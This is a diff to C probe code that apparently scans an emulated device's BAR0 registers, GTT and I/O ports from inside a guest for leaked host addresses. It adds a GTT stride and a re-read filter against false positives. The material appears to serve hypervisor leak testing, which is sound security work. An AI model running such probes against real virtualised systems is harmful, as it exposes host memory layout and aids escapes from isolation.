@@ -9,8 +9,9 @@
 /* What the lab puts into the last sector. */
 struct parameters {
     uint32_t
-        stride;     /* bytes from one read of BAR0's registers to the next, 8 or more */
-    uint32_t pages; /* of which every 8 bytes are read all the same */
+        stride; /* bytes from one read of BAR0's registers to the next, 8 or more */
+    uint32_t gtt_stride; /* likewise of its GTT */
+    uint32_t pages;      /* of which every 8 bytes are read all the same */
     uint32_t page[16];
     uint32_t windows;
     struct {
@@ -73,11 +74,19 @@ static uint64_t size_of_bar0(void)
     return size;
 }
 
+/* A clock that reads like an address for a moment is none: it moves on. */
+static void look_at(const char *place, uint64_t base, uint32_t offset, uint32_t value)
+{
+    if (value && is_hosts(value) && *(volatile uint32_t *)(base + offset) != value)
+        value = 0;
+    look(place, offset, value);
+}
+
 static void look_at_pair(const char *place, uint64_t base, uint32_t offset)
 {
     uint64_t value = read64(base + offset);
-    look(place, offset, (uint32_t)value);
-    look(place, offset + 4, (uint32_t)(value >> 32));
+    look_at(place, base, offset, (uint32_t)value);
+    look_at(place, base, offset + 4, (uint32_t)(value >> 32));
 }
 
 static void read_bar0(uint64_t base, uint32_t size)
@@ -92,7 +101,7 @@ static void read_bar0(uint64_t base, uint32_t size)
              at += 8)
             look_at_pair("leak bar0 ", base, at);
     }
-    for (uint32_t at = gtt; at < size; at += 8)
+    for (uint32_t at = gtt; at < size; at += parameters->gtt_stride)
         look_at_pair("leak gtt ", base, at);
     for (unsigned i = 0; i < sizeof(told) / sizeof(told[0]); i++) {
         uint32_t value = *(volatile uint32_t *)(base + told[i]);
@@ -117,7 +126,10 @@ static void read_through_io(uint16_t port)
     for (unsigned i = 0; i < sizeof(pages) / sizeof(pages[0]); i++) {
         for (uint32_t at = pages[i]; at < pages[i] + 0x1000; at += 4) {
             out32(port, at);
-            look("leak io ", at, in32((uint16_t)(port + 4)));
+            uint32_t value = in32((uint16_t)(port + 4));
+            if (value && is_hosts(value) && in32((uint16_t)(port + 4)) != value)
+                value = 0; /* as in look_at */
+            look("leak io ", at, value);
         }
     }
     for (uint32_t at = 0; at < 0x400; at += 4) {
